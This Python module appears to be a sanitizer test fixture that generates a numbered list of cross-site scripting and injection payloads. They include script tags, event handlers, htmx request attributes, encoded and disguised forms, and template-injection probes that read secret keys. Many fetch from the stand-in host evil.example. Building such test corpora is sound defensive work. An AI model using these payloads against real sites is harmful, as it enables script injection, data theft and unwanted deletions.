"""What hostile people write, made by us from its parts: every way a text could become a script, a request or a foreign page.

Each has a number; a script that ran would call hit(number), a request would go to /pwned/<number> or to evil.example.
"""

# ruff: noqa: E501 (a payload is a payload)

HOST = "evil.example"

_RUN = "top.hit({n})"
_TAGS = (
    "<script>{run}</script>", "<SCRIPT>{run}</SCRIPT>", "<script src=//{host}/{n}.js></script>", "<script src='/pwned/{n}'></script>",
    "<scr<script>ipt>{run}</scr</script>ipt>", "<script\t>{run}</script\n>", "<script/x>{run}</script>", "<<script>{run}//<</script>",
    "<script type=module>{run}</script>", "<script type='text/javascript'>{run}</script>", "<script>{run}", "</script><script>{run}</script>",
    "</textarea><script>{run}</script>", "</title><script>{run}</script>", "</style><script>{run}</script>", "--><script>{run}</script>",
    "]]><script>{run}</script>", "'\"><script>{run}</script>", "</select><script>{run}</script>", "</template><script>{run}</script>",
    "<svg><script>{run}</script></svg>", "<svg><script href=//{host}/{n}.js />", "<math><script>{run}</script></math>",
    "<noscript><p title=\"</noscript><script>{run}</script>\">", "<xmp><p title=\"</xmp><script>{run}</script>\">",
)  # fmt: skip
_ATTRIBUTES = (
    "<img src=x onerror={run}>", "<img src=x onerror='{run}'>", "<IMG SRC=x ONERROR={run}>", "<img/src='x'/onerror={run}>",
    "<img src=//{host}/{n}.png>", "<img src=/pwned/{n}>", "<img srcset='//{host}/{n} 1x'>", "<image src=x onerror={run}>",
    "<svg onload={run}>", "<svg/onload={run}>", "<svg><animate onbegin={run} attributeName=x dur=1s>", "<svg><set onbegin={run}>",
    "<svg><image href=//{host}/{n}></svg>", "<svg><use href='//{host}/{n}#x'></svg>", "<svg><a xlink:href='javascript:{run}'><text>x</text></a></svg>",
    "<svg><foreignObject><iframe src='javascript:{run}'></iframe></foreignObject></svg>", "<body onload={run}>", "<body onpageshow={run}>",
    "<input autofocus onfocus={run}>", "<select autofocus onfocus={run}>", "<textarea autofocus onfocus={run}>", "<keygen autofocus onfocus={run}>",
    "<details open ontoggle={run}>x</details>", "<dialog open onbeforetoggle={run}>", "<video src=x onerror={run}></video>",
    "<video><source onerror={run}></video>", "<audio src=x onerror={run}></audio>", "<video poster=//{host}/{n}></video>",
    "<object data=x onerror={run}></object>", "<object data='javascript:{run}'></object>", "<object data='//{host}/{n}'></object>",
    "<embed src='javascript:{run}'>", "<embed src='//{host}/{n}.swf'>", "<marquee onstart={run}>x</marquee>", "<bgsound src=//{host}/{n}>",
    "<iframe src='javascript:{run}'></iframe>", "<iframe src=//{host}/{n}></iframe>", "<iframe src=/pwned/{n}></iframe>",
    "<iframe srcdoc='<script>{run}</script>'></iframe>", "<iframe srcdoc='&lt;script&gt;{run}&lt;/script&gt;'></iframe>",
    "<iframe onload={run}></iframe>", "<frameset onload={run}>", "<frame src='javascript:{run}'>", "<portal src=//{host}/{n}></portal>",
    "<link rel=stylesheet href=//{host}/{n}.css>", "<link rel=prefetch href=/pwned/{n}>", "<link rel=preload as=script href=//{host}/{n}.js>",
    "<link rel=import href=//{host}/{n}>", "<style>@import '//{host}/{n}.css';</style>", "<style>*{{background:url(//{host}/{n})}}</style>",
    "<p style='background:url(//{host}/{n})'>x</p>", "<p style=\"width:expression({run})\">x</p>", "<base href=//{host}/>",
    "<base target=_top href='javascript:{run}'>", "<meta http-equiv=refresh content='0;url=//{host}/{n}'>",
    "<meta http-equiv=refresh content='0;javascript:{run}'>", "<form action=//{host}/{n}><button autofocus>x</button></form>",
    "<form><button formaction='javascript:{run}'>x</button></form>", "<isindex action='javascript:{run}' type=image>",
    "<table background='//{host}/{n}'>", "<div onpointerenter={run}>x</div>", "<div onmouseover={run}>x</div>",
    "<x contenteditable onblur={run}>x", "<a href='javascript:{run}'>x</a>", "<a href=' javascript:{run}'>x</a>",
    "<a href='java\tscript:{run}'>x</a>", "<a href='java&#10;script:{run}'>x</a>", "<a href='&#106;avascript:{run}'>x</a>",
    "<a href='JaVaScRiPt:{run}'>x</a>", "<a href='data:text/html,<script>{run}</script>'>x</a>", "<a href='vbscript:{run}'>x</a>",
    "<a ping=//{host}/{n} href=#>x</a>", "<img usemap=#m><map name=m><area href='javascript:{run}'></map>", "<button popovertarget=side>x</button>",
)  # fmt: skip
_HTMX = (
    "<div hx-get=/pwned/{n} hx-trigger=load></div>", "<div data-hx-get=/pwned/{n} data-hx-trigger=load></div>",
    "<div hx-post=/pwned/{n} hx-trigger=load></div>", "<div hx-delete=/contacts/{n}/ hx-trigger='load delay:1ms'></div>",
    "<div hx-get=//{host}/{n} hx-trigger=load></div>", "<div hx-get=https://{host}/{n} hx-trigger=revealed></div>",
    "<div hx-get=/pwned/{n} hx-trigger='every 1ms'></div>", "<div hx-get=/pwned/{n} hx-trigger='intersect once'></div>",
    "<div hx-on:load={run}></div>", "<div hx-on::load='{run}'></div>", "<div hx-on:htmx:load='{run}'></div>", "<div data-hx-on:click={run}>x</div>",
    "<div hx-on='load: {run}'></div>", "<div hx-get=/pwned/{n} hx-trigger=\"load[{run}]\"></div>", "<div hx-vals='js:{{x:{run}}}' hx-get=/pwned/{n} hx-trigger=load></div>",
    "<div hx-headers='js:{{x:{run}}}'></div>", "<div hx-boost=true><a href=/pwned/{n}>x</a></div>", "<div hx-ext=x hx-get=/pwned/{n} hx-trigger=load></div>",
    "<div hx-swap-oob=true id=main>owned</div>", "<div hx-swap-oob='innerHTML:body'><script>{run}</script></div>", "<div hx-select-oob='#main' hx-get=/pwned/{n} hx-trigger=load></div>",
    "<div hx-preserve id=main></div>", "<div hx-disinherit=* hx-get=/pwned/{n} hx-trigger=load></div>", "<div hx-disable=false hx-get=/pwned/{n} hx-trigger=load></div>",
    "<div hx-prompt=x hx-get=/pwned/{n} hx-trigger=load></div>", "<div hx-confirm=x hx-get=/pwned/{n} hx-trigger=load></div>", "<div hx-sse='connect:/pwned/{n}'></div>",
    "<div hx-ws='connect:wss://{host}/{n}'></div>", "<div ws-connect=/pwned/{n} hx-ext=ws></div>", "<div hx-push-url=/pwned/{n} hx-get=/ hx-trigger=load></div>",
    "<meta name=htmx-config content='{{\"allowEval\":true,\"selfRequestsOnly\":false}}'>", "</div></div><div hx-get=/pwned/{n} hx-trigger=load>",
    "<form hx-post=/pwned/{n} hx-trigger=load></form>", "<div data-confirm='{run}'></div>", "<div data-copy='{run}' data-set-theme='{run}'></div>",
    "<body data-live=on hx-get=/pwned/{n} hx-trigger=load>", "<template hx-get=/pwned/{n} hx-trigger=load></template>",
)  # fmt: skip
_DISGUISED = (
    "\u003cscript\u003e{run}\u003c/script\u003e", "＜script＞{run}＜/script＞", "‹script›{run}‹/script›", "<\u200bscript>{run}</script>", "<scr\u00adipt>{run}</scr\u00adipt>",
    "<ſcript>{run}</ſcript>", "<ﬁgure onmouseover={run}>", "<script\u2028>{run}</script>", "\ufeff<script>{run}</script>", "<\x0bscript>{run}</script>",
    "<script\x0c>{run}</script>", "&lt;script&gt;{run}&lt;/script&gt;", "&amp;lt;script&amp;gt;{run}", "&#60;script&#62;{run}&#60;/script&#62;",
    "&#x3c;img src=x onerror={run}&#x3e;", "%3Cscript%3E{run}%3C/script%3E", "%253Cscript%253E{run}", "\\u003cscript\\u003e{run}", "\\x3cscript\\x3e{run}",
    "+ADw-script+AD4-{run}+ADw-/script+AD4-", "\u202e<script>{run}</script>\u202c", "<script>{run}</script>\u0000", "¼script¾{run}¼/script¾", "<img src=x onerror\u00a0={run}>",
    "Content-Type: text/html\r\n\r\n<script>{run}</script>", "MIME-Version: 1.0\nContent-Type: multipart/mixed; boundary=x\n\n--x\nContent-Type: text/html\n\n<script>{run}</script>\n--x--",
    "=?utf-8?B?PHNjcmlwdD50b3AuaGl0KDEpPC9zY3JpcHQ+?=", "=3Cscript=3E{run}=3C/script=3E", "data:text/html;base64,PHNjcmlwdD50b3AuaGl0KDEpPC9zY3JpcHQ+",
    "javascript:{run}", "javascript://%0a{run}", "JAVASCRIPT:{run}//http://x", "http://x/'onmouseover='{run}", "http://x/\"><script>{run}</script>", "https://{host}/{n}?<img src=x onerror={run}>",
    "mailto:x@y\"onclick=\"{run}", "www.{host}/{n}\"><svg onload={run}>", "x@{host}<script>{run}</script>", "[x](javascript:{run})", "![x](//{host}/{n}.png)", "<https://{host}/{n}>", "```html\n<script>{run}</script>\n```",
)  # fmt: skip
_TEMPLATES = (
    "{{{{ settings.SECRET_KEY }}}}", "{{{{ request.user.password }}}}", "{{% load static %}}{{% static 'x' %}}", "{{% include 'base.html' %}}", "{{% debug %}}",
    "{{% csrf_token %}}", "{{{{ 7|add:7 }}}}", "{{{{ ''.__class__.__mro__ }}}}", "${{{run}}}", "#{{7*7}}", "<%= {run} %>", "{{{{constructor.constructor('{run}')()}}}}",
    "{{% autoescape off %}}<script>{run}</script>{{% endautoescape %}}", "{{# comment #}}<script>{run}</script>", "{{% comment %}}{{% endcomment %}}<script>{run}</script>",
    "{{{{ '<script>{run}</script>'|safe }}}}", "{{{{ \"<script>{run}</script>\" | raw }}}}", "{{%- raw -%}}<script>{run}</script>{{%- endraw -%}}",
)  # fmt: skip
_BREAKOUTS = (
    "\"onmouseover=\"{run}", "'onmouseover='{run}", "\" autofocus onfocus=\"{run}", "' autofocus onfocus='{run}", "x\" onerror=\"{run}\" src=\"x", "x onmouseover={run} ", "`onmouseover={run}",
    "\"/><img src=x onerror={run}>", "'/><img src=x onerror={run}>", "\" hx-get=\"/pwned/{n}\" hx-trigger=\"load", "' hx-get='/pwned/{n}' hx-trigger='load", "\" data-hx-get=\"/pwned/{n}\" data-hx-trigger=\"load",
    "\\\"; {run}; //", "'; {run}; //", "\"}}]; {run}; //", "*/{run}/*", "</title><img src=x onerror={run}>", "</textarea><img src=x onerror={run}>", "</option></select><img src=x onerror={run}>",
    "</dd></dl><img src=x onerror={run}>", "</code></pre><img src=x onerror={run}>", "<!--><img src=x onerror={run}>-->", "<![CDATA[<img src=x onerror={run}>]]>",
)  # fmt: skip

SHAPES = (*_TAGS, *_ATTRIBUTES, *_HTMX, *_DISGUISED, *_TEMPLATES, *_BREAKOUTS)
PAYLOADS = tuple(shape.format(run=_RUN.format(n=n), n=n, host=HOST) for n, shape in enumerate(SHAPES))
# Those that a page without safeguards would run or fetch at once: the tests' own control.
LOUD = tuple(PAYLOADS[n] for n, shape in enumerate(SHAPES) if shape in _ATTRIBUTES[:12] or shape in _HTMX[:3])
